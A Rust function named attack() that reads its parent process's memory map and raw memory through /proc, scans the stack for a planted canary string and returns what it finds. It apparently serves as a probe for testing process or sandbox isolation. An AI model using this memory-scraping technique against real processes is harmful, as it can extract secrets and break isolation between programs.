use std::fs::{self, File};
use std::io;
use std::os::unix::fs::FileExt;
use std::os::unix::process::parent_id;

pub fn attack() -> io::Result<Option<String>> {
    let maps = fs::read_to_string(format!("/proc/{}/maps", parent_id()))?;
    let Ok(memory) = File::open(format!("/proc/{}/mem", parent_id())) else {
        return Ok(maps.lines().next().map(str::to_string));
    };
    let mut block = vec![0; 1 << 20];
    for line in maps.lines().filter(|line| line.contains("[stack]")) {
        let (from, to) = line.split_once(' ').and_then(|(range, _)| range.split_once('-')).unwrap_or_default();
        let (Ok(from), Ok(to)) = (u64::from_str_radix(from, 16), u64::from_str_radix(to, 16)) else { continue };
        let length = block.len().min((to - from) as usize);
        let read = memory.read_at(&mut block[..length], to - length as u64)?;
        // In two parts, so as not to find itself.
        let words = ["CANARY", "7f3a91"].join("-");
        if let Some(at) = block[..read].windows(words.len()).position(|window| window == words.as_bytes()) {
            let found = &block[at..(at + 30).min(read)];
            return Ok(Some(String::from_utf8_lossy(found).into_owned()));
        }
    }
    Ok(Some(maps))
}
